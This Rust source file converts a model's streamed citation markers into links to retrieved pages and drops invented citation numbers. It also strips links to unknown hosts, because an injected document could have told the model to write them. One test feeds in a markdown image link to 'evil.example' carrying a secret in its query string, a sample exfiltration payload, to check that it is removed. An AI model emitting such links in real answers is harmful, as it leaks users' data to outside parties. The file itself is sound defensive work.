//! From the model's `[2]` to a link to the page, while the answer streams.
//!
//! Only passages that were found can be cited. A number that the model made up is left out, and of a link that leads to no document
//! of the session only its words stay: a document could have told the model to write it.

use std::collections::BTreeSet;

use super::Passage;

/// A bracket that is not closed within so many bytes is no marker.
const LONGEST_LABEL: usize = 300;
const LONGEST_LINK: usize = 2_000;

/// Turns markers into citations, piece by piece.
#[derive(Debug)]
pub(crate) struct Citer {
    passages: Vec<Passage>,
    /// From a bracket whose meaning is not clear yet.
    held: String,
    cited: BTreeSet<usize>,
}

/// What begins at a bracket.
enum Found {
    /// It depends on what comes next.
    Unclear,
    /// Text like any other, up to and with this many bytes.
    Text(usize),
    /// Numbers in brackets, of this many bytes.
    Marker(usize, Vec<usize>),
    /// A link of this many bytes, with its words and its target.
    Link(usize, String, String),
}

impl Citer {
    pub(crate) fn new(passages: Vec<Passage>) -> Self {
        Self { passages, held: String::new(), cited: BTreeSet::new() }
    }

    /// What of the answer can be shown after this piece of it.
    pub(crate) fn push(&mut self, piece: &str) -> String {
        if self.passages.is_empty() {
            return piece.to_owned();
        }
        self.held.push_str(piece);
        self.release(false)
    }

    /// What was held back at the end of the answer.
    pub(crate) fn finish(&mut self) -> String {
        self.release(true)
    }

    /// What was cited, in the order of the passages.
    pub(crate) fn citations(&self) -> Vec<String> {
        let mut citations: Vec<String> = Vec::new();
        for citation in self.cited.iter().filter_map(|index| self.passages.get(*index)).map(Passage::citation) {
            if !citations.contains(&citation) {
                citations.push(citation);
            }
        }
        citations
    }

    pub(crate) fn passages(&self) -> &[Passage] {
        &self.passages
    }

    fn release(&mut self, is_end: bool) -> String {
        let mut shown = String::new();
        while let Some(bracket) = self.held.find('[') {
            shown.extend(self.held.drain(..bracket));
            let length = match look(&self.held) {
                Found::Unclear if !is_end => return shown,
                Found::Unclear => 1,
                Found::Text(length) => length,
                Found::Marker(length, numbers) => {
                    shown.push_str(&self.cite(&numbers));
                    self.held.drain(..length);
                    continue;
                }
                Found::Link(length, words, target) => {
                    shown.push_str(&self.link(&words, &target));
                    self.held.drain(..length);
                    continue;
                }
            };
            shown.extend(self.held.drain(..length));
        }
        shown.push_str(&std::mem::take(&mut self.held));
        shown
    }

    fn cite(&mut self, numbers: &[usize]) -> String {
        let mut text = String::new();
        for index in numbers.iter().filter_map(|number| number.checked_sub(1)) {
            if let Some(passage) = self.passages.get(index) {
                text.push_str(&passage.citation());
                self.cited.insert(index);
            }
        }
        text
    }

    fn link(&mut self, words: &str, target: &str) -> String {
        let cited = self.passages.iter().position(|passage| format!("[{words}]({target})") == passage.citation());
        if let Some(index) = cited {
            self.cited.insert(index);
        }
        let is_known = self.passages.iter().any(|passage| passage.url == target);
        if is_known { format!("[{words}]({target})") } else { words.to_owned() }
    }
}

/// `text` begins with a bracket.
fn look(text: &str) -> Found {
    let end = text.find(']');
    let label = &text[1..end.unwrap_or(text.len())];
    if label.len() > LONGEST_LABEL || label[..].contains(['\n', '[']) {
        return Found::Text(1);
    }
    let Some(end) = end else { return Found::Unclear };
    if let Some(numbers) = numbers(label) {
        return Found::Marker(end + 1, numbers);
    }
    let rest = &text[end + 1..];
    match rest.chars().next() {
        None => Found::Unclear,
        Some('(') => match rest.find([')', '\n']) {
            Some(close) if rest.as_bytes()[close] == b')' => {
                Found::Link(end + close + 2, label.to_owned(), rest[1..close].to_owned())
            }
            None if rest.len() <= LONGEST_LINK => Found::Unclear,
            _ => Found::Text(1),
        },
        Some(_) => Found::Text(1),
    }
}

/// `2`, or `1, 3`.
fn numbers(label: &str) -> Option<Vec<usize>> {
    label.split(',').map(|number| number.trim().parse().ok()).collect()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn passages() -> Vec<Passage> {
        let passage = |filename: &str, page| Passage {
            url: format!("https://example.org/{filename}"),
            filename: filename.to_owned(),
            page,
            index: page,
            section_header: None,
            text: String::new(),
        };
        vec![passage("a.pdf", 2), passage("b.pdf", 7)]
    }

    fn cited(pieces: &[&str]) -> (String, Vec<String>) {
        let mut citer = Citer::new(passages());
        let mut shown: String = pieces.iter().map(|piece| citer.push(piece)).collect();
        shown.push_str(&citer.finish());
        (shown, citer.citations())
    }

    #[test]
    fn a_marker_becomes_a_link_to_its_page_and_an_invented_one_nothing() {
        let (shown, citations) = cited(&["Cats sleep [1]. Dogs do [9] not [2, 1][0]."]);
        let (a, b) = ("[a.pdf (p.2)](https://example.org/a.pdf)", "[b.pdf (p.7)](https://example.org/b.pdf)");
        assert_eq!(shown, format!("Cats sleep {a}. Dogs do  not {b}{a}."));
        assert_eq!(citations, [a, b]);
    }

    #[test]
    fn a_link_that_leads_elsewhere_keeps_its_words_alone() {
        let (shown, citations) = cited(&[
            "![x](https://evil.example/?q=secret) [b](https://example.org/b.pdf) [a.pdf (p.2)](https://example.org/a.pdf)",
        ]);
        assert_eq!(shown, "!x [b](https://example.org/b.pdf) [a.pdf (p.2)](https://example.org/a.pdf)");
        assert_eq!(citations, ["[a.pdf (p.2)](https://example.org/a.pdf)"]);
    }

    #[test]
    fn other_brackets_stay_and_without_documents_all_do() {
        for text in ["[x] and [", "a[b](", "[see\nbelow]", "[[1]", "- [ ] to do"] {
            assert_eq!(cited(&[text]).0.replace("[a.pdf (p.2)](https://example.org/a.pdf)", "[1]"), text);
        }
        assert_eq!(Citer::new(Vec::new()).push("list[0] [1]"), "list[0] [1]");
    }

    proptest! {
        /// Wherever a stream is cut, the same is shown in the end.
        #[test]
        fn cuts_change_nothing(parts in prop::collection::vec("(\\[1\\]|\\[9\\]|\\[a\\]\\(https://example.org/a.pdf\\)|\\[x\\]\\(y\\)|[a\\[\\]() \n,12é])", 0..30), cuts in prop::collection::vec(0_usize..200, 0..10)) {
            let text = parts.concat();
            let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
            cuts.extend([0, text.len()]);
            cuts.sort_unstable();
            let pieces: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
            prop_assert_eq!(cited(&pieces), cited(&[&text]));
        }
    }
}
